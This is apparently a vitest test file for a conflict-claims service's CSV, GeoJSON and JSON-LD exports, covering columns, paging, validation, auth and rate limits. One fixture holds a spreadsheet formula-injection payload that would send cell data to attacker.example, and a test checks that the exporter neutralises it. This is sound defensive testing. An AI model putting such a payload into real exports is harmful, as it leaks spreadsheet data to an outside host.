import { parse as parseCsv } from 'csv-parse/sync';
import jsonld from 'jsonld';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fullTextIndexOf } from '../src/model';
import { claimFilterQuery } from '../src/read/filters';
import { exportPages } from '../src/export/pages';
import { claimCsvProperties, claimCsvRelations } from '../src/export/claims-csv';
import { createTestService, testKeys, type GraphQLResponse } from './support/service';

const service = createTestService();
afterAll(() => service.close());

const village = 'place:ru:lozovaya-rudka';
const writer = { authorization: `Bearer ${testKeys.writer}` };
/** A claim written from the public, as a spreadsheet would take it: a formula, commas, quotes, a line break. */
const hostile = {
  key: 'claim:test-export:formula',
  text: '=HYPERLINK("http://attacker.example/?"&A1, "Click, please")\nsecond line',
  quote: '+ "the village is ours", they wrote; -1 tanks',
};

interface GraphQLClaim {
  key: string;
  text: string;
  madeAt: string | null;
  madeAtPrecision: string | null;
  makers: { attribution: string | null; actor: { key: string; name: string } }[];
  subjects: { role: string | null; entity: { key: string } }[];
  sources: { quote: string | null; source: { key: string; title: string | null } }[];
}

const claimFields = `key text madeAt madeAtPrecision makers(first: 20) { attribution actor { key name } } subjects(first: 20) { role entity { key } } sources(first: 20) { quote source { key title } }`;

/** The claims a filter lists through GraphQL, every page. */
async function listedClaims(filter: Record<string, unknown>): Promise<GraphQLClaim[]> {
  const claims: GraphQLClaim[] = [];
  let after: string | null = null;
  for (;;) {
    const response: GraphQLResponse<{ claims: { edges: { node: GraphQLClaim }[]; pageInfo: { hasNextPage: boolean; endCursor: string } } }> = await service.graphql(
      `query ($filter: ClaimFilter, $after: String) { claims(filter: $filter, first: 20, after: $after) { edges { node { ${claimFields} } } pageInfo { hasNextPage endCursor } } }`,
      { filter, after },
    );
    expect(response.body.errors).toBeUndefined();
    const page = response.body.data!.claims;
    claims.push(...page.edges.map((edge) => edge.node));
    if (!page.pageInfo.hasNextPage) return claims;
    after = page.pageInfo.endCursor;
  }
}

const exportUrl = (path: string, parameters: Record<string, unknown> = {}) =>
  `http://localhost${path}?${new URLSearchParams(Object.entries(parameters).map(([name, value]) => [name, typeof value === 'string' ? value : JSON.stringify(value)]))}`;

const lines = (cell: string | undefined) => (cell ? cell.split('\n') : []);

beforeAll(async () => {
  const recorded = await service.graphql(
    `mutation ($input: RecordClaimInput!) { recordClaim(input: $input) { status } }`,
    {
      input: {
        key: hostile.key,
        properties: { text: hostile.text, type: 'CONTROL', stance: 'ASSERTS', basis: 'CLAIMED_BY_PARTY', madeAt: '2024-03' },
        madeBy: [
          { key: 'unit:freedom-of-russia-legion', attribution: 'AMBIGUOUS' },
          { key: 'unit:russian-volunteer-corps', attribution: 'AMBIGUOUS' },
        ],
        about: [{ key: village, role: 'PLACE' }],
        sources: [{ key: 'source:social-post:test-export', quote: hostile.quote, first: true, source: { kind: 'SOCIAL_POST', title: 'Post, "quoted"', publishedAt: '2024-03-12' } }],
      },
    },
    writer,
  );
  expect(recorded.body.errors).toBeUndefined();
});

describe('CSV of claims', () => {
  it('writes one row per claim the filter lists, with makers, subjects, sources and quotes, in one round trip', async () => {
    const filter = { about: village };
    const expected = await listedClaims(filter);
    const { response: responded, roundTrips } = service.request(exportUrl('/export/claims.csv', { filter }));
    const response = await responded;
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="claims.csv"');
    const bytes = new Uint8Array(await response.arrayBuffer());
    // UTF-8 with a byte order mark, CRLF line ends (RFC 4180).
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    expect(text.split('\r\n')[0]!.startsWith('\uFEFFkey,text,')).toBe(true);
    const rows = parseCsv(text, { bom: true, columns: true }) as Record<string, string>[];
    const header = Object.keys(rows[0]!);
    expect(header).toEqual(expect.arrayContaining(['key', 'text', 'madeAt', 'madeAtPrecision', 'validFrom', 'validFromPrecision', 'makerKeys', 'makerNames', 'makerAttributions', 'subjectKeys', 'subjectRoles', 'sourceKeys', 'sourceTitles', 'quotes']));
    expect(rows.map((row) => row.key)).toEqual(expected.map((claim) => claim.key).sort());
    expect(roundTrips).toEqual(['export.claims.csv']);
    for (const claim of expected) {
      const row = rows.find((candidate) => candidate.key === claim.key)!;
      expect(lines(row.makerKeys)).toEqual(claim.makers.map((maker) => maker.actor.key));
      expect(lines(row.makerNames)).toEqual(claim.makers.map((maker) => maker.actor.name));
      expect(lines(row.makerAttributions)).toEqual(claim.makers.map((maker) => maker.attribution ?? ''));
      expect(lines(row.subjectKeys)).toEqual(claim.subjects.map((subject) => subject.entity.key));
      expect(lines(row.subjectRoles)).toEqual(claim.subjects.map((subject) => subject.role ?? ''));
      expect(lines(row.sourceKeys)).toEqual(claim.sources.map((source) => source.source.key));
      expect(row.madeAt).toBe(claim.madeAt ?? '');
      expect(row.madeAtPrecision).toBe(claim.madeAtPrecision ?? '');
      if (claim.key === hostile.key) continue;
      expect(row.text).toBe(claim.text);
      expect(lines(row.quotes)).toEqual(claim.sources.map((source) => source.quote ?? ''));
    }
  });

  it('neutralises cells that start like a formula and quotes commas, quotes and line breaks', async () => {
    const response = await service.yoga.fetch(exportUrl('/export/claims.csv', { filter: { about: village, madeFrom: '2024-03-01', madeTo: '2024-03-31' } }));
    const rows = parseCsv(await response.text(), { bom: true, columns: true }) as Record<string, string>[];
    const row = rows.find((candidate) => candidate.key === hostile.key)!;
    expect(row.text).toBe(`'${hostile.text}`);
    expect(row.quotes).toBe(`'${hostile.quote}`);
    expect(row.sourceTitles).toBe('Post, "quoted"');
    expect(row).toMatchObject({ madeAt: '2024-03-01', madeAtPrecision: 'MONTH', madeAtEarliest: '2024-03-01', madeAtLatest: '2024-03-31', makerAttributions: 'AMBIGUOUS\nAMBIGUOUS' });
  });

  it('reads page after page by key (keyset), each row once, one round trip a page', async () => {
    const read = () => {
      const { conditions, start } = claimFilterQuery({}, {});
      return { label: 'Claim', fullTextIndex: fullTextIndexOf.Claim, start, conditions, properties: claimCsvProperties, relations: claimCsvRelations } as const;
    };
    const keysOf = async (pageSize: number) => {
      const trips: string[] = [];
      const db = service.gateway.observed((tag) => trips.push(tag));
      const keys: string[] = [];
      for await (const page of exportPages(db, 'test.export', read(), pageSize)) keys.push(...page.map((claim) => claim.key));
      return { keys, trips: trips.length };
    };
    const whole = await keysOf(100_000);
    const paged = await keysOf(7);
    expect(whole.keys.length).toBeGreaterThan(20);
    expect(paged.keys).toEqual(whole.keys);
    expect(paged.trips).toBe(Math.floor(whole.keys.length / 7) + 1);
    expect(whole.trips).toBe(1);
    const listed = await service.graphql<{ claims: { totalCount: number } }>('{ claims { totalCount } }');
    expect(whole.keys.length).toBe(listed.body.data!.claims.totalCount);
  });
});

interface GraphQLEvent {
  key: string;
  name: string;
  startDate: string | null;
  startDatePrecision: string | null;
  places: { precision: string | null; place: { key: string; location: { latitude: number; longitude: number } | null; locationPrecision: string | null; locationUncertaintyKm: number | null } }[];
}

describe('GeoJSON', () => {
  it('writes each event at each of its places, with how precisely it is placed and the place\'s uncertainty', async () => {
    const filter = { from: '2024-01-01' };
    const listed = await service.graphql<{ events: { totalCount: number; edges: { node: GraphQLEvent }[] } }>(
      `query ($filter: EventFilter) { events(filter: $filter, first: 100) { totalCount edges { node { key name startDate startDatePrecision places(first: 100) { precision place { key location { latitude longitude } locationPrecision locationUncertaintyKm } } } } } }`,
      { filter },
    );
    const events = listed.body.data!.events;
    expect(events.totalCount).toBeLessThanOrEqual(100);
    const response = await service.yoga.fetch(exportUrl('/export/events.geojson', { filter }), { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ filter }) });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/geo+json; charset=utf-8');
    const collection = (await response.json()) as { type: string; features: { id: string; geometry: { type: string; coordinates: number[] } | null; properties: Record<string, unknown> }[] };
    expect(collection.type).toBe('FeatureCollection');
    const expected = events.edges.flatMap(({ node }) =>
      node.places.length === 0
        ? [{ id: node.key, geometry: null, properties: expect.objectContaining({ key: node.key, name: node.name }) }]
        : node.places.map(({ precision, place }) => ({
            id: `${node.key}@${place.key}`,
            geometry: place.location ? { type: 'Point', coordinates: [place.location.longitude, place.location.latitude] } : null,
            properties: expect.objectContaining({
              key: node.key,
              name: node.name,
              startDate: node.startDate,
              startDatePrecision: node.startDatePrecision,
              placeKey: place.key,
              eventPlacePrecision: precision,
              locationPrecision: place.locationPrecision,
              locationUncertaintyKm: place.locationUncertaintyKm,
            }),
          })),
    );
    expect(collection.features.length).toBeGreaterThan(0);
    expect(collection.features.map(({ id, geometry, properties }) => ({ id, geometry, properties }))).toEqual(
      expect.arrayContaining(expected.map((feature) => expect.objectContaining(feature))),
    );
    expect(collection.features).toHaveLength(expected.length);
  });

  it('writes each place with its point, precision and uncertainty radius', async () => {
    const filter = { within: 'place:ru' };
    const listed = await service.graphql<{ places: { edges: { node: { key: string; location: { latitude: number; longitude: number } | null; locationPrecision: string | null; locationUncertaintyKm: number | null } }[] } }>(
      `query ($filter: PlaceFilter) { places(filter: $filter, first: 100) { edges { node { key location { latitude longitude } locationPrecision locationUncertaintyKm } } } }`,
      { filter },
    );
    const response = await service.yoga.fetch(exportUrl('/export/places.geojson', { filter }));
    const collection = (await response.json()) as { features: { id: string; geometry: unknown; properties: Record<string, unknown> }[] };
    const places = listed.body.data!.places.edges.map((edge) => edge.node);
    expect(places.length).toBeGreaterThan(2);
    expect(collection.features.map((feature) => feature.id)).toEqual(places.map((place) => place.key).sort());
    for (const place of places) {
      const feature = collection.features.find((candidate) => candidate.id === place.key)!;
      expect(feature.geometry).toEqual(place.location ? { type: 'Point', coordinates: [place.location.longitude, place.location.latitude] } : null);
      expect(feature.properties).toMatchObject({ locationPrecision: place.locationPrecision, locationUncertaintyKm: place.locationUncertaintyKm });
    }
  });
});

describe('JSON-LD with PROV-O', () => {
  it('states who made a claim, from which sources, quoting what, and when it was recorded; it parses back as RDF', async () => {
    const key = 'claim:ambiguous:take-back-our-land';
    const listed = await service.graphql<{ claim: { recordedAt: string; recordedBy: string; makers: { attribution: string; actor: { key: string } }[]; sources: { first: boolean; quote: string | null; paraphrased: boolean; source: { key: string } }[] } }>(
      `query ($key: String!) { claim(key: $key) { recordedAt recordedBy makers(first: 100) { attribution actor { key } } sources(first: 100) { first quote paraphrased source { key } } } }`,
      { key },
    );
    const claim = listed.body.data!.claim;
    expect(claim.makers.length).toBeGreaterThan(1);
    expect(claim.sources.length).toBeGreaterThan(0);
    const response = await service.yoga.fetch(exportUrl('/export/claim.jsonld', { key }));
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/ld+json; charset=utf-8');
    // safe mode: a term the context does not define fails the parse rather than vanishing.
    const quads = (await jsonld.toRDF((await response.json()) as jsonld.JsonLdDocument, { format: 'application/n-quads', safe: true } as never)) as unknown as string;
    const prov = (term: string) => `<http://www.w3.org/ns/prov#${term}>`;
    const iri = (of: string) => `<urn:conflict-graph:${of}>`;
    const triples = quads.split('\n');
    const has = (subject: string, predicate: string, object: string) => triples.some((line) => line.startsWith(`${subject} ${predicate} ${object}`));
    expect(has(iri(key), '<http://www.w3.org/1999/02/22-rdf-syntax-ns#type>', prov('Entity'))).toBe(true);
    for (const maker of claim.makers) expect(has(iri(key), prov('wasAttributedTo'), iri(maker.actor.key))).toBe(true);
    for (const source of claim.sources) expect(has(iri(key), prov('wasDerivedFrom'), iri(source.source.key))).toBe(true);
    for (const source of claim.sources.filter((candidate) => candidate.first)) expect(has(iri(key), prov('hadPrimarySource'), iri(source.source.key))).toBe(true);
    for (const source of claim.sources.filter((candidate) => candidate.quote && !candidate.paraphrased)) expect(has(iri(key), prov('wasQuotedFrom'), iri(source.source.key))).toBe(true);
    expect(has(iri(key), prov('generatedAtTime'), `"${claim.recordedAt}"^^<http://www.w3.org/2001/XMLSchema#dateTime>`)).toBe(true);
    expect(has(`<urn:conflict-graph:${key}#recording>`, prov('wasAssociatedWith'), `<urn:conflict-graph:principal:${encodeURIComponent(claim.recordedBy)}>`)).toBe(true);
    const attributions = triples.filter((line) => line.includes('<urn:conflict-graph:vocab:attribution>')).map((line) => line.split(' ')[2]);
    expect(attributions.sort()).toEqual(claim.makers.map((maker) => `"${maker.attribution}"`).sort());
  });

  it('is 404 NOT_FOUND for a key that names no claim', async () => {
    const response = await service.yoga.fetch(exportUrl('/export/claim.jsonld', { key: 'claim:test-export:never-recorded' }));
    expect(response.status).toBe(404);
    expect(((await response.json()) as { errors: { extensions: { code: string } }[] }).errors[0]!.extensions.code).toBe('NOT_FOUND');
  });
});

describe('the exports refuse what the lists refuse', () => {
  const refusal = async (response: Response) => ({ status: response.status, body: (await response.json()) as { errors: { message: string; extensions: { code: string } }[] } });

  it('checks the filter as GraphQL checks its input, before any Cypher runs', async () => {
    const cases: [string, number, RegExp][] = [
      [exportUrl('/export/claims.csv', { filter: { types: ['NOPE'] } }), 400, /filter\.types\.0: .*NOPE/],
      [exportUrl('/export/claims.csv', { filter: { from: '2024-13-40' } }), 400, /filter\.from/],
      [exportUrl('/export/events.geojson', { filter: { near: { latitude: 1, longitude: 2 } } }), 400, /filter\.near/],
      [exportUrl('/export/places.geojson', { filter: { colour: 'red' } }), 400, /colour/],
      [exportUrl('/export/places.geojson', { limit: 5 }), 400, /Unknown parameter "limit"/],
      ['http://localhost/export/claims.csv?filter={not json', 400, /not JSON/],
      [exportUrl('/export/claim.jsonld'), 400, /key/],
    ];
    for (const [url, status, message] of cases) {
      const { response, roundTrips } = service.request(url);
      const { status: got, body } = await refusal(await response);
      expect({ url, got }).toEqual({ url, got: status });
      expect(body.errors[0]!.extensions.code).toBe('BAD_USER_INPUT');
      expect(body.errors[0]!.message).toMatch(message);
      expect(roundTrips).toEqual([]);
    }
  });

  it('refuses a text filter the lists refuse (too many words) with BAD_USER_INPUT', async () => {
    const { status, body } = await refusal(await service.yoga.fetch(exportUrl('/export/claims.csv', { filter: { text: 'a b c d e f g h i j' } })));
    expect(status).toBe(400);
    expect(body.errors[0]!.extensions.code).toBe('BAD_USER_INPUT');
  });

  it('needs a key that may read when reads are closed, and counts against the rate limit', async () => {
    const closed = createTestService({ READ_ACCESS: 'authenticated' });
    const limited = createTestService({ RATE_LIMIT_PER_MINUTE: '1' });
    try {
      const anonymous = await refusal(await closed.yoga.fetch(exportUrl('/export/places.geojson')));
      expect(anonymous.status).toBe(401);
      expect(anonymous.body.errors[0]!.extensions.code).toBe('UNAUTHENTICATED');
      const reader = await closed.yoga.fetch(exportUrl('/export/places.geojson'), { headers: { authorization: `Bearer ${testKeys.reader}` } });
      expect(reader.status).toBe(200);
      expect(((await reader.json()) as { features: unknown[] }).features.length).toBeGreaterThan(0);
      const badKey = await refusal(await closed.yoga.fetch(exportUrl('/export/places.geojson'), { headers: { authorization: 'Bearer not-a-key-0123456789abcdef' } }));
      expect(badKey.status).toBe(401);

      expect((await limited.yoga.fetch(exportUrl('/export/places.geojson', { filter: { types: ['COUNTRY'] } }))).status).toBe(200);
      const second = await limited.yoga.fetch(exportUrl('/export/places.geojson', { filter: { types: ['COUNTRY'] } }));
      expect(second.status).toBe(429);
      expect(second.headers.get('retry-after')).toMatch(/^\d+$/);
    } finally {
      await closed.close();
      await limited.close();
    }
  });
});
